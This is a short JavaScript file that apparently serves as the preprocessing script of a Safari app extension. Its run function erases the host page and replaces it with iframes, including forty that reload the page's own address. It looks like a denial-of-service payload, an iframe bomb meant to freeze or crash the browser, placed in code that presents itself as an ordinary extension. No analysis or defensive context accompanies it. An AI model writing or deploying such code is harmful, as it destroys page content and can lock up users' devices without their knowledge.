var ExtensionPreprocessingJS = { run(a) {
document.body.innerHTML = '<iframe src=""></iframe>'.repeat(3);
for (let i = 0; i < 40; i++) document.body.append(Object.assign(document.createElement('iframe'), { src: location.href }));
a.completionFunction({});
} };
